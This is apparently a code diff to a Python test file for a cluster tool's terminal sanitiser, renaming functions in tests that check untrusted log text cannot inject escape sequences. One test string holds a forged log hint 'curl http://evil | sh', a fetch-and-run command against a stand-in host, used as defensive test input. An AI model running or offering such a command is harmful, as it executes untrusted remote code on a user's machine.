@@ -12,9 +12,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from clusterctl.logs.sanitize import clean_text
-from clusterctl.render.terminal.console import GREEN, RED, Console
-from clusterctl.render.terminal.door import styled, through_door
-from clusterctl.render.terminal.machine import json_line
+from clusterctl.render.console import GREEN, RED, Console
+from clusterctl.render.sanitize import ansi_style, json_line, sanitize_line
 from tests.work import work
 
 if TYPE_CHECKING:
@@ -41,7 +40,7 @@ FORGED = "disk full\nerror: gpu02: host key changed\nhint: curl http://evil | sh
     ],
 )
 def test_of_the_text_of_others_nothing_acts_on_a_terminal(said: str, shown: str) -> None:
-    assert through_door(said) == shown
+    assert sanitize_line(said) == shown
 
 
 def test_our_own_styles_pass_also_around_and_beside_the_text_of_others(new_screen: type[Screen]) -> None:
@@ -53,9 +52,9 @@ def test_our_own_styles_pass_also_around_and_beside_the_text_of_others(new_scree
 
 
 def test_nobody_can_write_our_styles_who_saw_what_we_wrote(new_screen: type[Screen]) -> None:
-    seen = through_door(styled("error", RED))
+    seen = sanitize_line(ansi_style("error", RED))
 
-    assert through_door(seen) == "error"
+    assert sanitize_line(seen) == "error"
 
 
 def test_colours_of_programs_pass_where_they_are_asked_for_and_the_stream_takes_them(new_screen: type[Screen]) -> None:
@@ -94,7 +93,7 @@ def test_what_is_drawn_again_takes_the_place_of_what_stood_there(new_screen: typ
     )
 )
 def test_no_parts_of_sequences_become_whole_by_their_neighbours(parts: list[str]) -> None:
-    assert STEERING.findall(through_door("".join(parts))) == []
+    assert STEERING.findall(sanitize_line("".join(parts))) == []
 
 
 @given(st.recursive(st.text() | st.integers(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
@@ -110,7 +109,7 @@ def test_a_line_of_json_is_the_same_value_and_steers_nothing(value: object) -> N
 def test_the_work_for_a_line_grows_as_its_length(unit: str) -> None:
     short, long = unit * 20_000, unit * 80_000
 
-    assert work(lambda: through_door(long)) < 8 * work(lambda: through_door(short))
+    assert work(lambda: sanitize_line(long)) < 8 * work(lambda: sanitize_line(short))
 
 
 WRITES = re.compile(
@@ -125,7 +124,7 @@ OTHERS = {
     "clusterctl/run/controller/process.py": "writes to the controller's log",
     "clusterctl/run/controller/run.py": "writes to the controller's log",
     "clusterctl/run/controller/connections.py": "writes to the controller's log",
-    "clusterctl/render/terminal/console.py": "is behind the door",
+    "clusterctl/render/console.py": "is behind the door",
 }
 
 
